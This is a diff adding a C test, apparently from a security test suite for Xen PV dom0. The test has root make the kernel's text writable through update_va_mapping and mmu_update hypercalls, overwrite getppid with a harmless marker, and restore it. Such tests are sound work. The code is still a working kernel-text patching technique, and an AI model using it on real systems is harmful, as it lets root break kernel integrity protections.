@@ -1,0 +1,157 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Page tables of a PV dom0. The kernel asks Xen for every change of its page
+ * tables, and Xen sees to it that they give access to dom0's own memory only;
+ * that the kernel's text is not for root to write is the kernel's own rule, of
+ * which Xen knows nothing.
+ */
+#include "rogue.h"
+
+#include <sys/syscall.h>
+
+#define PTE_WRITABLE 0x2UL
+#define PTE_USER     0x67UL /* present, writable, user, accessed, dirty */
+#define PTE_NX       (1UL << 63)
+#define PTE_FRAME(e) (((e)&0x000ffffffffff000UL) / PAGE_SIZE)
+
+/* mov $lie, %eax; ret: what getppid() runs once it has been overwritten. */
+static const uint32_t lie = 0x0badc0de;
+static const uint8_t lying_code[] = { 0xb8, 0xde, 0xc0, 0xad, 0x0b, 0xc3 };
+#define PATCH_SIZE 16
+
+static bool getppid_lies(void)
+{
+    return (uint32_t)syscall(SYS_getppid) == lie;
+}
+
+/*
+ * Map the frame of @text at a page of our own, whose entry Xen is asked to
+ * replace; write the lying code there and put everything back.
+ */
+static bool patch_by_own_mapping(uint64_t text)
+{
+    uint8_t *page = buffer(PAGE_SIZE), *code = page + text % PAGE_SIZE;
+    const uint64_t own = own_frame(page) * PAGE_SIZE | PTE_USER | PTE_NX;
+    const uint64_t alias = kernel_frame(text) * PAGE_SIZE | PTE_USER | PTE_NX;
+    uint8_t original[sizeof(lying_code)];
+    bool lied;
+
+    if ( hypercall3(__HYPERVISOR_update_va_mapping, page, alias,
+                    UVMF_INVLPG | UVMF_ALL) )
+        return getppid_lies();
+
+    memcpy(original, code, sizeof(original));
+    memcpy(code, lying_code, sizeof(lying_code));
+    lied = getppid_lies();
+    memcpy(code, original, sizeof(original));
+
+    hypercall3(__HYPERVISOR_update_va_mapping, page, own,
+               UVMF_INVLPG | UVMF_ALL);
+    return lied;
+}
+
+/*
+ * One level down in the kernel's page tables, read from the kernel's mapping of
+ * all memory.
+ */
+static uint64_t entry_at(uint64_t table_page, uint64_t address,
+                         unsigned int level)
+{
+    uint64_t base = 0, entry = 0;
+    uint64_t index = (address >> (12 + 9 * (level - 1))) & 0x1ff;
+
+    if ( !read_kernel(kernel_symbol("page_offset_base"), &base, sizeof(base)) ||
+         !read_kernel(base + table_page * PAGE_SIZE + index * sizeof(entry),
+                      &entry, sizeof(entry)) )
+        return 0;
+
+    return entry;
+}
+
+/*
+ * The L1 entry that maps @address for the kernel, and where it is (a machine
+ * address).
+ */
+static uint64_t kernel_pte(uint64_t address, uint64_t *where)
+{
+    uint64_t table = kernel_page_number(kernel_symbol("init_top_pgt")),
+             entry = 0;
+
+    for ( unsigned int level = 4; level > 0; level-- )
+    {
+        entry = entry_at(table, address, level);
+        if ( !entry || level == 1 )
+            break;
+
+        *where = PTE_FRAME(entry) * PAGE_SIZE +
+                 (address >> (12 + 9 * (level - 2)) & 0x1ff) * 8;
+        table = page_of_frame(PTE_FRAME(entry));
+    }
+
+    return entry;
+}
+
+/*
+ * Make the kernel's own mapping of its text writable. Any copy by Xen to an
+ * address of the caller's choice then reaches it: here dom0's UUID, which the
+ * caller chooses, too.
+ */
+static bool patch_by_kernel_mapping(uint64_t text)
+{
+    struct xen_domctl set = { .cmd = XEN_DOMCTL_setdomainhandle, .domain = 0 };
+    mmu_update_t *update = buffer(PAGE_SIZE);
+    uint8_t original[PATCH_SIZE] = { 0 };
+    uint64_t where = 0;
+    const uint64_t pte = kernel_pte(text, &where);
+    bool lied;
+
+    if ( !pte || !read_kernel(text, original, sizeof(original)) )
+        return false;
+
+    *update = (mmu_update_t){ .ptr = where | MMU_NORMAL_PT_UPDATE,
+                              .val = pte | PTE_WRITABLE };
+    hypercall4(__HYPERVISOR_mmu_update, update, 1, 0, DOMID_SELF);
+
+    memcpy(set.u.setdomainhandle.handle, original, PATCH_SIZE);
+    memcpy(set.u.setdomainhandle.handle, lying_code, sizeof(lying_code));
+    domctl(&set);
+    hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, text);
+    lied = getppid_lies();
+
+    memcpy(set.u.setdomainhandle.handle, original, PATCH_SIZE);
+    domctl(&set);
+    hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, text);
+    memset(set.u.setdomainhandle.handle, 0, PATCH_SIZE);
+    domctl(&set);
+
+    update->val = pte;
+    hypercall4(__HYPERVISOR_mmu_update, update, 1, 0, DOMID_SELF);
+    return lied;
+}
+
+/*
+ * U-PTE: run code of root's own in the dom0 kernel.
+ *
+ * Two ways to a writable mapping of kernel text: update_va_mapping on an
+ * address of this process, and mmu_update on the entry that the kernel itself
+ * uses. Code written through either takes the place of a system call, which
+ * then tells whether it ran.
+ */
+ATTACK("U-PTE", "make kernel text writable and change a system call")
+{
+    const uint64_t text = kernel_symbol("__x64_sys_getppid");
+    bool own, kernel;
+
+    if ( !dom0_is_pv() )
+        return not_applicable(
+            "PV only: a PVH kernel edits its page tables without Xen");
+    if ( !text || !kernel_frame(text) )
+        return cannot_try("no frame for the kernel's text");
+
+    own = patch_by_own_mapping(text);
+    kernel = patch_by_kernel_mapping(text);
+
+    return effect(own || kernel, "getppid %s%s%s",
+                  own || kernel ? "ran code written by" : "intact",
+                  own ? " update_va_mapping" : "", kernel ? " mmu_update" : "");
+}
